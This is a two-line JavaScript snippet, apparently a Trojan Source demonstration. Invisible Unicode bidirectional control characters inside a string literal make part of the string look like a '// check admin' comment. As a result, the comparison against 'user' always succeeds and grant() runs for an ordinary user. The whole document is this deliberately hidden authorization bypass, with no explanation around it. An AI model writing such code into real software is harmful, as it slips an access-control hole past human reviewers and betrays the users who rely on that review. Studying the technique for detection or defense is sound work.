const level = 'user';
if (level !== 'user‮ ⁦// check admin⁩ ⁦') { grant(); }
